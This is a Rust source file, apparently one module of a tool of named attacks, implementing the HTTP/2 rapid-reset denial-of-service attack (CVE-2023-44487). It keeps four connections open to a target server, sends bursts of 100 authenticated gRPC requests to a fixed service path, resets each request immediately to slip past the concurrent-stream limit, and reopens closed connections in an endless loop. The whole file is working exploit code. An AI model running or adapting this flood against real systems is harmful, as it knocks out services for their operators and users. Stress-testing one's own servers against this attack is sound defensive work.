//! Calls that are reset as soon as they are sent (CVE-2023-44487).

use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use futures_util::future::{LocalBoxFuture, join_all};
use h2::Reason;
use tokio::time::sleep;

use crate::attack::{Attack, AttackTarget};
use crate::flood::WINDOW_SMALL;
use crate::wire::{self, CallSender};

const CONNECTIONS: usize = 4;
/// Calls that are sent together.
const BURST: usize = 100;
/// Between two bursts, and before a closed connection is opened again.
const PAUSE: Duration = Duration::from_millis(5);

/// Calls with a token, each reset at once: the limit of concurrent calls never counts them.
pub(crate) struct ResetAttack;

impl Attack for ResetAttack {
    fn name(&self) -> &'static str {
        "reset"
    }

    fn run<'t>(&'t self, target: &'t AttackTarget) -> LocalBoxFuture<'t, Result<()>> {
        Box::pin(async move {
            join_all((0..CONNECTIONS).map(|_| keep(target))).await;
            Ok(())
        })
    }
}

/// Keeps one connection to the server, and opens it again whenever it is closed.
async fn keep(target: &AttackTarget) {
    loop {
        if let Ok((sender, connection)) = wire::open(target, WINDOW_SMALL).await {
            tokio::select! {
                _ended = connection => {}
                _ended = reset(target, sender) => {}
            }
        }
        sleep(PAUSE).await;
    }
}

async fn reset(target: &AttackTarget, mut sender: CallSender) -> Result<()> {
    let path = "/earmark.cas.v1.CasAllocationService/SearchAllocations";
    loop {
        for _ in 0..BURST {
            sender = sender.ready().await?;
            let head = wire::head(target, path, Some(&target.token))?;
            let (_response, mut stream) = sender.send_request(head, false)?;
            stream.send_data(Bytes::from_static(&[0; 5]), true)?;
            // The frames before must have left for the server to see a call at all.
            tokio::task::yield_now().await;
            stream.send_reset(Reason::CANCEL);
        }
        sleep(PAUSE).await;
    }
}
